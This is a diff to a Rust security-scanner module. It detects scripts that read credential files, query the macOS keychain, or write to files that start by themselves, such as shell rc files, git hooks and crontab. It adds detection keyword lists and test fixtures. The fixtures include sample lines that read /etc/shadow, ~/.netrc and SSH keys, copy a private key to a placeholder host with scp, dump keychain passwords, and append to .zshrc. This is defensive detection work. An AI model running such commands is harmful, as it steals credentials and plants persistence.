@@ -1,8 +1,9 @@
-//! Files of credentials that a script opens whose language is read by its words alone: a name of one, and what reads files,
-//! in one line or by one variable.
+//! Files that a script opens whose language is read by its words alone: the name of one that holds credentials, or that starts
+//! by itself, and what reads or writes files, in one line or by one variable.
 
 use super::{joins, nets};
 use crate::finding::{Finding, Findings, Place, Severity};
+use crate::rule::Rule;
 use crate::rules::shell as rules;
 use crate::shell::Context;
 
@@ -60,7 +61,62 @@ const READS: &[&str] = &[
     "scan(",
     "read.csv(",
     "posix file",
+    "open_in",
+    "fopen(",
+    "ifstream",
+    "stringwithcontentsoffile",
+    "open --raw",
+    "open -r ",
+    "read_to_string(",
 ];
+
+/// What writes a file, likewise. What prints is none: a line for a person may name a file.
+const WRITES: &[&str] = &[
+    "writefile(",
+    "writefile ",
+    "writetext(",
+    "appendtext(",
+    "writebytes(",
+    "writealltext(",
+    "appendalltext(",
+    "writealllines(",
+    "appendalllines(",
+    "appendfile(",
+    "appendfile ",
+    "file::create(",
+    "fs::write(",
+    "file.write",
+    "file.append",
+    "file.create",
+    "os.create(",
+    "o_append",
+    "files.write",
+    "filewriter(",
+    "printwriter(",
+    "streamwriter(",
+    "fileoutputstream(",
+    "writeasstring",
+    "ofstream",
+    "open_out",
+    "spit ",
+    "save --append",
+    "save -a ",
+    "save -f ",
+    "save --force",
+    "write(to:",
+    "write(tofile:",
+    "writetofile",
+    "forwritingatpath",
+    "forwritingto",
+    ".append(true)",
+    "with-open-file",
+    "call-with-output-file",
+    "append=true",
+    "append = true",
+];
+
+/// How macOS's program is asked for what a keychain holds.
+const KEYCHAINS: &[&str] = &["find-generic-password", "find-internet-password", "dump-keychain"];
 
 /// 2,000 lines of one script are looked through.
 const LINES: usize = 2_000;
@@ -68,26 +124,81 @@ const LINES: usize = 2_000;
 /// 32 lines of them that name such a file.
 const NAMED: usize = 32;
 
-/// Tells of the first file of credentials that a script reads.
+/// Tells of the first file of credentials that a script reads, and of the first that starts by itself which it writes.
 pub(super) fn judge(path: &str, text: &str, context: Context, findings: &mut Findings) {
     let plain = joins::folded(text);
     let lines: Vec<&str> = plain.lines().filter(|line| !nets::is_comment(line)).take(LINES).collect();
     let home = nets::Home::of(&plain.to_lowercase());
-    let reading: Vec<&str> = lines.iter().copied().filter(|line| reads(line)).collect();
-    let is_opened =
-        |line: &str| reads(line) || assigned(line).is_some_and(|name| reading.iter().any(|line| has_name(line, name)));
-    let mut named = lines.iter().filter_map(|line| Some((line, home.secret_in(line)?))).take(NAMED);
-    let read = named.find(|(line, _)| is_opened(line));
-    if let Some((_, named)) = read {
-        let severity = if context.is_asked() { Severity::Warning } else { Severity::Danger };
-        let finding = Finding::new(&rules::SECRET, Place::file(path), format!("{named} is read"));
-        findings.push(finding.severity(severity).evidence(path));
+    let severity = if context.is_asked() { Severity::Warning } else { Severity::Danger };
+    let mut tell = |rule: &'static Rule, message: String| {
+        findings.push(Finding::new(rule, Place::file(path), message).severity(severity).evidence(path));
+    };
+    if let Some(named) = opened(&lines, READS, |line| home.secret_in(line)) {
+        tell(&rules::SECRET, format!("{named} is read"));
+    } else if let Some(way) = KEYCHAINS.iter().find(|way| lines.iter().any(|line| line.contains(**way))) {
+        tell(&rules::SECRET, format!("a keychain is asked: `{way}`"));
+    }
+    if let Some(named) = opened(&lines, WRITES, |line| home.lasting_in(line)) {
+        tell(&rules::LASTING, format!("{named} is written"));
     }
 }
 
-fn reads(line: &str) -> bool {
-    let lower = line.to_lowercase();
-    READS.iter().any(|word| lower.contains(word))
+/// The first file that a line names which one of the `words` opens: in that line, or by the variable that the line gives it to.
+fn opened(lines: &[&str], words: &[&str], names: impl Fn(&str) -> Option<String>) -> Option<String> {
+    let says = |line: &str| {
+        let lower = line.to_lowercase();
+        words.iter().any(|word| lower.contains(word))
+    };
+    let openers = openers(lines, &says);
+    let opens = |line: &str| {
+        let calls = |name: &&str| has_name(line, name) && defined(line) != Some(name);
+        says(line) || openers.iter().any(|name| calls(name))
+    };
+    let opening: Vec<&str> = lines.iter().copied().filter(|line| opens(line)).collect();
+    let is_opened =
+        |line: &str| opens(line) || assigned(line).is_some_and(|name| opening.iter().any(|line| has_name(line, name)));
+    let mut named = lines.iter().filter_map(|line| Some((line, names(line)?))).take(NAMED);
+    named.find(|(line, _)| is_opened(line)).map(|(_, named)| named)
+}
+
+/// 12 lines of a function, in which it opens what it is given.
+const BODY: usize = 12;
+
+/// 16 such functions of one script.
+const OPENERS: usize = 16;
+
+/// The functions of a script that open a file.
+fn openers<'t>(lines: &[&'t str], says: &impl Fn(&str) -> bool) -> Vec<&'t str> {
+    let opens = |at: usize| lines.iter().skip(at.saturating_add(1)).take(BODY).any(|line| says(line));
+    let named = lines.iter().enumerate().filter_map(|(at, line)| Some((at, defined(line)?)));
+    named.filter(|(at, _)| opens(*at)).map(|(_, name)| name).take(OPENERS).collect()
+}
+
+/// The function that a line begins, with parameters.
+fn defined(line: &str) -> Option<&str> {
+    const WORDS: &[&str] = &[
+        "function ",
+        "func ",
+        "fn ",
+        "fun ",
+        "def ",
+        "defp ",
+        "sub ",
+        "proc ",
+        "let rec ",
+        "let ",
+        "static ",
+        "void ",
+    ];
+    let line = line.trim_start();
+    let rest = WORDS.iter().find_map(|word| line.strip_prefix(word))?;
+    let is_letter = |c: char| c.is_alphanumeric() || c == '_';
+    let head = rest.split_once('(').map_or(rest, |(head, _)| head);
+    let is_bare = line.starts_with("let ") || line.starts_with("proc ");
+    let name = if is_bare { head.split_whitespace().next()? } else { head.rsplit(|c| !is_letter(c)).next()? };
+    // `let a = …` defines no function.
+    let takes = !is_bare || head.split_whitespace().nth(1).is_some_and(|word| word.starts_with(is_letter));
+    Some(name).filter(|name| takes && name.len() > 2 && name.chars().all(is_letter))
 }
 
 fn has_name(line: &str, name: &str) -> bool {
@@ -106,7 +217,12 @@ fn assigned(line: &str) -> Option<&str> {
         let left = line.get(..at)?.split([':', ',']).next()?.trim_end();
         left.rsplit(|c: char| !c.is_alphanumeric() && c != '_').next()
     };
-    by_word.or_else(by_sign).filter(|name| !name.is_empty())
+    // C's way to put a path together.
+    let printed = ["sprintf(", "snprintf(", "strcpy(", "strcat("].iter().find_map(|call| {
+        let rest = line.split_once(call)?.1;
+        rest.split(|c: char| !c.is_alphanumeric() && c != '_').next()
+    });
+    printed.or(by_word).or_else(by_sign).filter(|name| !name.is_empty())
 }
 
 #[cfg(test)]
@@ -145,6 +261,36 @@ mod tests {
             ("osascript", "a.applescript", "do shell script \"cat ~/.netrc\"\n"),
             ("expect", "a.exp", "spawn cat ~/.netrc\nexpect eof\n"),
             ("expect", "a.exp", "spawn scp -o BatchMode=no $env(HOME)/.ssh/id_ed25519 a@x.invalid:in/\nexpect eof\n"),
+            ("ocaml", "a.ml", "let () = let ic = open_in \"/etc/shadow\" in print_endline (input_line ic)\n"),
+            (
+                "tcc -run",
+                "a.c",
+                "int main(void){char path[99];\nsnprintf(path, 99, \"%s/.netrc\", getenv(\"HOME\"));\nFILE *f = fopen(path, \"r\");\n}\n",
+            ),
+            (
+                "ocaml",
+                "a.ml",
+                "let read_lines path =\n  let ic = open_in path in\n  input_line ic\nlet () = print_endline (read_lines \"/etc/shadow\")\n",
+            ),
+            (
+                "osascript -l JavaScript",
+                "a.js",
+                "function text(path) {\n  return $.NSString.stringWithContentsOfFileEncodingError($(path), 4, null);\n}\nfunction run() { return text('~/.ssh/id_rsa'); }\n",
+            ),
+            ("expect", "a.exp", "spawn crontab -e\nsend \"Go\"\n"),
+            ("nu", "a.nu", "let a = (open --raw ~/.aws/credentials)\nprint $a\n"),
+            ("swift", "a.swift", "print(run(\"/usr/bin/security\", [\"find-generic-password\", \"-w\"]))\n"),
+            ("kotlinc -script", "a.main.kts", "val rc = File(home, \".zshrc\")\nrc.appendText(\"x\")\n"),
+            (
+                "nim r",
+                "a.nim",
+                "let path = getHomeDir() / \".deepcode\" / \"settings.json\"\nwriteFile(path, settings.pretty)\n",
+            ),
+            (
+                "rustc -o x",
+                "a.rs",
+                "let target = Path::new(\".git/hooks/prepare-commit-msg\");\nlet mut f = fs::File::create(target)?;\n",
+            ),
             (
                 "julia",
                 "a.jl",
@@ -159,6 +305,12 @@ mod tests {
             assert_eq!(of(by, path, text), Some(Severity::Danger), "{text}");
         }
         for (by, path, text) in [
+            ("kotlinc -script", "a.main.kts", "println(\"add it to ~/.zshrc\")\nFile(\"out.txt\").appendText(\"x\")\n"),
+            (
+                "kotlinc -script",
+                "a.main.kts",
+                "val rc = File(home, \".zshrc\").readText()\nFile(\"out.txt\").appendText(\"x\")\n",
+            ),
             (
                 "go run",
                 "main.go",
